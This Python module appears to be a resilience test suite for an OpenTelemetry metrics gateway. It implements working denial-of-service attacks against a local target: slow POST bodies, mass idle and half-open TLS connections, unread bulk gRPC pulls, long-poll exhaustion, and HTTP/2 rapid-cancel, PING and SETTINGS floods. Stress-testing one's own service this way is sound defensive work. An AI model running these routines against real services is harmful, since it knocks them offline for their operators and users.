"""Connections that say nothing, say it slowly, never read, or ask for much at once."""

from __future__ import annotations

import contextlib
import resource
import socket
import ssl
import threading
import time

from attack.http2 import PING, SETTINGS, Connection
from attack.otlp import MOST_REQUEST, Point, body, step
from attack.target import EXPORT, PULL, Attack, Target, bearer
from esper_otel.pull.messages import PullRequest, PullResponse

_HEAD = (
    "POST /v1/metrics HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-protobuf\r\n"
    "Authorization: Bearer rogue-token\r\n{}\r\n"
)
_MANY = 1_100  # more than the files that a process usually may open


def _slow_posts(target: Target) -> None:
    """Bodies that begin and never go on: in chunks, or of an announced length."""
    opened: list[tuple[socket.socket, bytes]] = []
    for number in target.rounds(0.02):
        length = "Transfer-Encoding: chunked\r\n" if number % 2 else f"Content-Length: {MOST_REQUEST}\r\n"
        part = b"1\r\nx\r\n" if number % 2 else b"x"
        if len(opened) < 64:
            with contextlib.suppress(OSError):
                each = target.socket()
                opened.append((each, part))
                each.sendall(_HEAD.format(length).encode() + part)
        else:
            for each, part in opened:
                with contextlib.suppress(OSError):
                    each.sendall(part)
            time.sleep(min(0.5, target.left_s()))
    _close([each for each, _ in opened])


def _silent(target: Target, port: str) -> None:
    _allow_files()
    opened: list[socket.socket] = []
    for _ in target.rounds():
        if len(opened) < _MANY:
            with contextlib.suppress(OSError):
                opened.append(target.socket(port))
        else:
            opened.pop(0).close()
            time.sleep(0.005)
    _close(opened)


def _silent_on_grpc(target: Target) -> None:
    _silent(target, "grpc")


def _silent_on_http(target: Target) -> None:
    _silent(target, "http")


def _late_handshakes(target: Target) -> None:
    """TCP connections to both TLS ports: most never shake hands, some do so late and then say nothing."""
    _allow_files()
    context = ssl.create_default_context(cafile=str(target.gateway.ca))
    opened: list[socket.socket] = []
    late: list[socket.socket] = []
    for number in target.rounds():
        if len(opened) >= _MANY:
            opened.pop(0).close()
            time.sleep(0.005)
        with contextlib.suppress(OSError):
            opened.append(target.socket("grpc" if number % 3 == 0 else "http"))
        if number % 4 == 3 and len(late) < 200:
            with contextlib.suppress(OSError):
                each = opened.pop(0)
                each.settimeout(0.5)
                late.append(context.wrap_socket(each, server_hostname="localhost"))
    _close(opened + late)


def _unread(target: Target) -> None:
    """Pulls of whole pages by someone who never reads the answers."""
    points = [Point(f"name-{number:03}", 1.0, 0) for number in range(2)]
    now = time.time_ns()
    for number in range(20):
        times = (now + (number * 50 + place) * 1_000_000 for place in range(50))
        content = [
            Point("kasmina.seed.alpha", 0.5, at, f"seed-{seed}-{'x' * 100}") for at in times for seed in range(20)
        ]
        target.post(body("rogue-large", [*content, *(each._replace(time_unix_ns=now) for each in points)]))
    asked = PullRequest(run_id="rogue-large", max_packets=1_000).SerializeToString()
    opened: list[Connection] = []
    for _ in target.rounds(0.05):
        if len(opened) < 10:
            with contextlib.suppress(OSError):
                connection = Connection(target.gateway.grpc, reads=False)
                opened.append(connection)
                for number in range(100):
                    connection.call(2 * number + 1, PULL, "rogue-token")
                    connection.message(2 * number + 1, asked, target.deadline_s)
    for each in opened:
        each.close()


def _long_polls(target: Target) -> None:
    """A thousand waits of one token."""
    channels = [target.channel() for _ in range(11)]
    target.post(step("rogue-polled", 1))
    calls = []
    asked = PullRequest(run_id="rogue-never", wait_s=60.0)
    for channel in channels:
        call = channel.unary_unary(PULL, PullRequest.SerializeToString, PullResponse.FromString)
        calls += [call.future(asked, metadata=bearer(), timeout=60) for _ in range(100)]
    for _ in target.rounds(0.2):
        pass
    for each in calls:
        each.cancel()  # type: ignore[no-untyped-call] # the stubs lack it
    for channel in channels:
        channel.close()


def _floods(target: Target) -> None:
    """Calls that are taken back at once, PINGs and SETTINGS, each as quickly as they can be written."""

    def flood(kind: int) -> None:
        for _ in target.rounds(0.01):
            with contextlib.suppress(OSError):
                connection = Connection(target.gateway.grpc, reads=kind != PING)
                try:
                    for number in range(2_000):
                        if kind == 0:
                            connection.call(2 * number + 1, EXPORT, "rogue-token")
                            connection.cancel(2 * number + 1)
                        else:
                            connection.frame(kind, 0, 0, b"12345678" if kind == PING else b"")
                finally:
                    connection.close()

    flooding = [threading.Thread(target=flood, args=(kind,), daemon=True) for kind in (0, PING, SETTINGS)]
    for each in flooding:
        each.start()
    for each in flooding:
        each.join(target.left_s() + 2)


def _allow_files() -> None:
    """The attacker has no such bound."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8_192), most))


def _close(opened: list[socket.socket]) -> None:
    for each in opened:
        each.close()


ATTACKS = (
    Attack("slow-posts", "64 POSTs that begin and never go on", _slow_posts),
    Attack("silent-on-grpc", "1,100 silent connections to the gRPC port", _silent_on_grpc),
    Attack("silent-on-http", "1,100 silent connections to the HTTP port", _silent_on_http),
    Attack(
        "late-handshakes",
        "1,100 connections to the TLS ports without a handshake, or late",
        _late_handshakes,
        has_tls=True,
    ),
    Attack("unread-pulls", "1,000 pulls of whole pages whose answers are not read", _unread),
    Attack("long-polls", "1,100 long polls of one token", _long_polls),
    Attack("http2-floods", "floods of calls taken back, PING and SETTINGS", _floods, is_delay_accepted=True),
)
